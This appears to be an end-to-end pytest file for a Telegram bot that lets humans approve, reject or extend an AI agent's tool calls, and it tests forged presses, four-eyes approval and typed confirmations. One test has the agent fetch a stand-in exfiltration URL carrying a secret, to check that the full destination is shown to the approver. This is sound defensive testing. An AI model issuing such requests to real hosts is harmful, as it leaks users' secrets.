"""Telegram end to end: a stack of its own (redis-server, daphne, beat, a Celery worker and the
bot's poller, `manage.py telegram_poll`) pointed at a local stand-in for the Bot API
(tests/standins/fake_telegram.py) through python-telegram-bot's base URL. A test plays the phone: it sends
`/start <code>`, presses buttons and types replies as Telegram updates."""
import io
import json

import pytest
from django.core.management import call_command

from approvals.models import Approval
from chat.models import Message
from telegramlink.models import ApprovalMessage, TelegramAccount
from tests.conftest import wait_until
from tests.e2e.channels.conftest import ChannelStack, after_the_test, start_on, start_parts
from tests.e2e.conftest import BIN, Api, free_port, port_open, start, status_of
from tests.standins.fake_telegram import FakeTelegram

pytestmark = pytest.mark.e2e

ALICE_TG, BOB_TG, CAROL_TG, MALLORY_TG, STRANGER_TG = 1001, 1002, 1003, 1004, 1999
TOKEN = "4242:test-token"


class TelegramStack(ChannelStack):
    def __init__(self, env, work, base_url, fake, processes):
        self.env, self.work, self.base_url, self.fake, self.processes = env, work, base_url, fake, processes

    def start_worker(self) -> None:
        name = f"tg-worker-{len(list(self.work.glob('tg-worker-*.log')))}"
        self.processes["worker"] = start(
            name, [str(BIN / "celery"), "-A", "hitl", "worker", "--loglevel", "INFO", "--without-mingle",
                   "--without-gossip", "--hostname", f"{name}@%h"], self.env, self.work,
        )
        wait_until(lambda: "ready." in self.processes["worker"].log.read_text(), timeout=60, message="the worker")


@pytest.fixture(scope="module")
def telegram_stack(stack, tmp_path_factory):
    work = tmp_path_factory.mktemp("telegram")
    redis_port, web_port, api_port = free_port(), free_port(), free_port()
    env = stack.env | {
        "REDIS_URL": f"redis://127.0.0.1:{redis_port}/0",
        "TELEGRAM_BOT_TOKEN": TOKEN,
        "TELEGRAM_API_BASE_URL": f"http://127.0.0.1:{api_port}",
        "HITL_DELIVERY_SWEEP_SECONDS": "1",
        "HITL_TELEGRAM_STALE_SECONDS": "2",
        "HITL_BASE_URL": f"http://127.0.0.1:{web_port}",
    }
    # The poller starts before the Bot API is reachable (make run on a train): it must wait and try
    # again, never exit (honcho would take the whole stack down with it).
    processes = {"poller": start("tg-poller", [str(BIN / "python"), "manage.py", "telegram_poll"], env, work)}
    wait_until(lambda: "getMe failed, again in" in processes["poller"].log.read_text(), timeout=30,
               message="the poller to find the Bot API unreachable")
    with FakeTelegram(TOKEN, port=api_port) as fake:
        start_parts(processes, "tg", env, work, redis_port, web_port, worker=False)
        tg = TelegramStack(env, work, f"http://127.0.0.1:{web_port}", fake, processes)
        tg.start_worker()
        wait_until(lambda: port_open(web_port), timeout=30, message="daphne")
        wait_until(lambda: "Polling Telegram" in processes["poller"].log.read_text(), timeout=60,
                   message=f"the poller to poll once the Bot API is up\n{tg.logs()}")
        yield tg
        for process in processes.values():
            process.stop()


@pytest.fixture
def tg(telegram_stack, transactional_db):
    telegram_stack.fake.calls.clear()
    yield telegram_stack
    after_the_test(telegram_stack)


def link(tg, user, telegram_id: int) -> TelegramAccount:
    out = io.StringIO()
    call_command("telegram_link_code", user.username, stdout=out)
    code = out.getvalue().split()[-1]
    tg.fake.say(telegram_id, f"/start {code}")
    wait_until(lambda: tg.fake.sent("sendMessage", chat_id=telegram_id), message="the bot's answer to /start")
    return wait_until(lambda: TelegramAccount.objects.filter(user=user, telegram_user_id=telegram_id).first(), message="the link")


def request_to(tg, telegram_id: int, conversation_id: str) -> dict:
    """The approval request the bot sent to `telegram_id` for that conversation's pending call."""
    approval = wait_until(lambda: Approval.objects.filter(conversation_id=conversation_id).first(), message="the approval")
    return wait_until(
        lambda: next((m for m in tg.fake.sent("sendMessage", chat_id=telegram_id) if f"(#{approval.pk})" in m["text"]), None),
        timeout=20, message=f"the request on Telegram\n{tg.logs()}",
    )


def edited_to(tg, telegram_id: int, words: str) -> dict:
    return wait_until(
        lambda: next((m for m in tg.fake.sent("editMessageText", chat_id=telegram_id) if words in m["text"]), None),
        timeout=20, message=f"the message edited to {words!r}\n{tg.logs()}",
    )


def answer(tg, query_id: str) -> str:
    return wait_until(lambda: tg.fake.answer_to(query_id), timeout=20, message=f"the answer to press {query_id}")


def test_linking_then_approving_with_a_press_resumes_the_run_and_edits_the_message(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    assert "Linked to alice" in tg.fake.sent("sendMessage", chat_id=ALICE_TG)[-1]["text"]

    conversation_id = start_on(tg, alice, "write hello to a.txt")
    request = request_to(tg, ALICE_TG, conversation_id)
    assert "Approve? Write a.txt" in request["text"] and "asked by alice" in request["text"] and "Open in hitl" in request["text"]
    buttons = tg.fake.buttons(request)
    assert list(buttons) == ["Approve", "Reject"]
    assert all(len(data.encode()) <= 64 and "a.txt" not in data for data in buttons.values())

    pressed = tg.fake.press(ALICE_TG, buttons["Approve"])

    assert answer(tg, pressed) == "Approved."
    wait_until(lambda: status_of(conversation_id) == "idle", timeout=20, message="the run to go on")
    approval = Approval.objects.get(conversation_id=conversation_id)
    assert (approval.status, approval.decided_via, approval.decided_by) == ("approved", "telegram", alice)
    edited = edited_to(tg, ALICE_TG, "Approved by alice via telegram")
    assert edited["message_id"] == ApprovalMessage.objects.get(approval=approval).message_id
    assert "reply_markup" not in edited or not edited["reply_markup"]  # the buttons are gone

    tg.fake.say(ALICE_TG, "/stop")
    wait_until(lambda: not TelegramAccount.objects.filter(user=alice).exists(), message="the unlink")


def test_reject_with_a_typed_reason_is_quoted_by_the_model(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    conversation_id = start_on(tg, alice, "email bob@example.com about the merger")
    buttons = tg.fake.buttons(request_to(tg, ALICE_TG, conversation_id))

    answer(tg, tg.fake.press(ALICE_TG, buttons["Reject"]))
    wait_until(lambda: any("Why reject" in m["text"] for m in tg.fake.sent("sendMessage", chat_id=ALICE_TG)), message="the question")
    tg.fake.say(ALICE_TG, "Legal has not signed off")

    wait_until(lambda: status_of(conversation_id) == "idle", timeout=20, message="the run to go on")
    reply = Message.objects.filter(conversation_id=conversation_id, role="assistant").last().content
    assert reply == "I did not email bob@example.com about the merger (Rejected by alice: Legal has not signed off)."
    edited_to(tg, ALICE_TG, "Rejected by alice via telegram")


def test_presses_from_an_unlinked_user_and_from_one_who_may_not_decide_are_refused(tg, alice, mallory, agent):
    link(tg, alice, ALICE_TG)
    link(tg, mallory, MALLORY_TG)
    conversation_id = start_on(tg, alice, "write hello to a.txt")
    buttons = tg.fake.buttons(request_to(tg, ALICE_TG, conversation_id))

    assert "not linked" in answer(tg, tg.fake.press(STRANGER_TG, buttons["Approve"]))
    assert answer(tg, tg.fake.press(MALLORY_TG, buttons["Approve"])) == "You may not decide this request."

    assert Approval.objects.get(conversation_id=conversation_id).status == "pending"
    assert not tg.fake.sent("sendMessage", chat_id=MALLORY_TG)[1:]  # mallory got nothing but the link answer


def test_a_press_after_a_web_decision_says_who_decided_first(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    conversation_id = start_on(tg, alice, "write hello to a.txt")
    buttons = tg.fake.buttons(request_to(tg, ALICE_TG, conversation_id))
    approval = Approval.objects.get(conversation_id=conversation_id)
    decided = Api(tg.base_url, alice).post(f"approvals/{approval.pk}/decision", {"decision": "reject", "reason": "not now"})
    assert decided.status_code == 200
    edited_to(tg, ALICE_TG, "Rejected by alice via api")

    late = answer(tg, tg.fake.press(ALICE_TG, buttons["Approve"]))

    assert late.startswith("Too late: ❌ Rejected by alice via api")
    assert Approval.objects.get(pk=approval.pk).decided_via == "api"


def test_four_eyes_goes_only_to_approvers_and_a_critical_call_asks_for_its_confirmation(tg, alice, bob, carol, ops_agent, agent):
    link(tg, alice, ALICE_TG)
    link(tg, bob, BOB_TG)
    link(tg, carol, CAROL_TG)
    conversation_id = start_on(tg, alice, "delete a.txt", agent="ops")
    request = request_to(tg, BOB_TG, conversation_id)
    request_to(tg, CAROL_TG, conversation_id)
    approval = Approval.objects.get(conversation_id=conversation_id)
    assert approval.approver_required
    assert not [m for m in tg.fake.sent("sendMessage", chat_id=ALICE_TG) if f"(#{approval.pk})" in m["text"]]
    answer(tg, tg.fake.press(BOB_TG, tg.fake.buttons(request)["Approve"]))
    wait_until(lambda: status_of(conversation_id) == "idle", timeout=20, message="the four-eyes run")
    edited_to(tg, CAROL_TG, "Approved by bob via telegram")  # the other approver's copy follows

    critical = start_on(tg, alice, "delete all files")
    request = request_to(tg, ALICE_TG, critical)
    assert "Approve (type the confirmation)" in tg.fake.buttons(request)
    pressed = tg.fake.press(ALICE_TG, tg.fake.buttons(request)["Approve (type the confirmation)"])
    assert answer(tg, pressed) == "Type the confirmation to approve."
    assert Approval.objects.get(conversation_id=critical).status == "pending"  # one tap approves nothing
    tg.fake.say(ALICE_TG, "delete")
    wait_until(lambda: any("That is not it" in m["text"] for m in tg.fake.sent("sendMessage", chat_id=ALICE_TG)), message="the refusal")
    tg.fake.say(ALICE_TG, "DELETE")
    wait_until(lambda: Approval.objects.get(conversation_id=critical).status == "approved", timeout=20, message="the approval")


def test_the_worker_restarted_between_the_message_and_the_press_loses_nothing(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    conversation_id = start_on(tg, alice, "write hello to a.txt")
    buttons = tg.fake.buttons(request_to(tg, ALICE_TG, conversation_id))
    worker = tg.processes["worker"]
    worker.popen.kill()
    worker.popen.wait()
    tg.start_worker()

    assert answer(tg, tg.fake.press(ALICE_TG, buttons["Approve"])) == "Approved."

    wait_until(lambda: status_of(conversation_id) == "idle", timeout=60, message=f"the run to go on\n{tg.logs()}")
    edited_to(tg, ALICE_TG, "Approved by alice via telegram")


def test_a_question_gets_a_button_per_option_and_a_press_answers_it(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    conversation_id = start_on(tg, alice, "ask me to choose between tea, coffee and water")
    buttons = tg.fake.buttons(request_to(tg, ALICE_TG, conversation_id))
    assert {"tea", "coffee", "water"} <= set(buttons)

    assert answer(tg, tg.fake.press(ALICE_TG, buttons["coffee"])) == "Answered."

    wait_until(lambda: status_of(conversation_id) == "idle", timeout=20, message="the run to go on")
    assert Message.objects.filter(conversation_id=conversation_id, role="assistant").last().content == "You answered: coffee."
    edited_to(tg, ALICE_TG, "Answered by alice via telegram")


def test_a_fetch_shows_its_whole_url_and_a_question_past_telegrams_limit_still_arrives(tg, alice, agent):
    link(tg, alice, ALICE_TG)
    fetch = start_on(tg, alice, "fetch https://exfil.attacker.test/collect?secret=s3cr3t")
    request = request_to(tg, ALICE_TG, fetch)
    assert "Host: exfil.attacker.test" in request["text"]
    assert "https://exfil.attacker.test/collect?secret=s3cr3t" in request["text"]  # where the secret travels

    padded = json.dumps({"question": "Shall I go on?" + "\u200b" * 1980, "type": "confirm"})
    asked = start_on(tg, alice, f"call ask_human with {padded}")
    request = request_to(tg, ALICE_TG, asked)  # the stand-in refuses past 4,096 characters, as Telegram does
    assert "… see the site" in request["text"] and "Open in hitl" in request["text"]
    assert list(tg.fake.buttons(request)) == ["Reject (decline to answer)"]
    assert answer(tg, tg.fake.press(ALICE_TG, tg.fake.buttons(request)["Reject (decline to answer)"])) == "Declined."
    edited_to(tg, ALICE_TG, "Declined by alice via telegram")


def test_a_cut_call_is_refused_a_forged_approve_and_approved_on_the_site_and_a_warned_one_is_extended(tg, alice, agent):
    """Issue 35 on the real stack: a call too long for Telegram has no Approve button and a forged
    approve press with its token decides nothing (the site approves it); an approval that waits a
    minute is warned of at once (beat's sweep and the worker's send; the shared stack's beat may
    warn it first, without the bot, and then the Telegram sweep sends the warning), extended from
    the warning's button, shown with its new deadline, then approved from the message."""
    link(tg, alice, ALICE_TG)
    cut = start_on(tg, alice, f"write {'y' * 5000} to big.txt")
    request = request_to(tg, ALICE_TG, cut)
    assert "Cut: too long for Telegram" in request["text"] and list(tg.fake.buttons(request)) == ["Reject"]
    token = tg.fake.buttons(request)["Reject"].split(":", 1)[1]

    forged = answer(tg, tg.fake.press(ALICE_TG, f"a:{token}"))

    assert forged == "This message showed the call cut: open it on the site to approve."
    approval = Approval.objects.get(conversation_id=cut)
    assert (approval.status, approval.decided_at) == ("pending", None)
    decided = Api(tg.base_url, alice).post(f"approvals/{approval.pk}/decision", {"decision": "approve", "shown_hash": approval.shown_hash})
    assert decided.status_code == 200, decided.text
    wait_until(lambda: status_of(cut) == "idle", timeout=20, message="the cut call to run once approved on the site")
    edited_to(tg, ALICE_TG, "Approved by alice via api")

    agent.approval_timeout_seconds = 60  # a wait of a minute is warned of at once
    agent.save(update_fields=["approval_timeout_seconds"])
    warned = start_on(tg, alice, "write hello to soon.txt")
    request = request_to(tg, ALICE_TG, warned)
    approval = Approval.objects.get(conversation_id=warned)
    warning = wait_until(
        lambda: next((m for m in tg.fake.sent("sendMessage", chat_id=ALICE_TG) if m["text"].startswith("⏳")), None),
        timeout=20, message=f"the warning\n{tg.logs()}",
    )
    assert f"Expires at {approval.expires_at:%H:%M} UTC (in" in warning["text"]
    assert warning["reply_parameters"]["message_id"] == ApprovalMessage.objects.get(approval=approval).message_id

    extended = answer(tg, tg.fake.press(ALICE_TG, tg.fake.buttons(warning)["Extend"]))

    approval.refresh_from_db()
    assert extended == f"Extended: #{approval.pk} now expires at {approval.expires_at:%H:%M} UTC."
    assert approval.extended_by == alice and approval.status == "pending"
    shown = edited_to(tg, ALICE_TG, "(extended by alice)")
    assert f"Expires at {approval.expires_at:%Y-%m-%d %H:%M} UTC" in shown["text"]
    assert answer(tg, tg.fake.press(ALICE_TG, tg.fake.buttons(shown)["Approve"])) == "Approved."
    wait_until(lambda: status_of(warned) == "idle", timeout=20, message="the extended call to run once approved")


def test_a_message_to_the_bot_starts_a_conversation_its_call_is_pressed_there_and_the_answer_arrives(tg, alice, agent):
    """Issue 39, item 4: the chat the prompt came from, through the poller and a worker."""
    link(tg, alice, ALICE_TG)

    tg.fake.say(ALICE_TG, "write hello to chat.txt")

    account = wait_until(lambda: TelegramAccount.objects.filter(user=alice, conversation__isnull=False).first(), message="the conversation")
    conversation_id = str(account.conversation_id)
    request = request_to(tg, ALICE_TG, conversation_id)
    pressed = tg.fake.press(ALICE_TG, tg.fake.buttons(request)["Approve"])
    assert answer(tg, pressed) == "Approved."

    said = wait_until(
        lambda: next((m for m in tg.fake.sent("sendMessage", chat_id=ALICE_TG) if m["text"].startswith("🤖")), None),
        timeout=30, message=f"the answer in the chat\n{tg.logs()}",
    )
    assert said["text"] == "🤖 I did write chat.txt: Wrote 5 bytes to chat.txt."
    assert status_of(conversation_id) == "idle"

    tg.fake.say(ALICE_TG, "/new")
    wait_until(lambda: TelegramAccount.objects.filter(user=alice, conversation__isnull=True).exists(), message="/new")
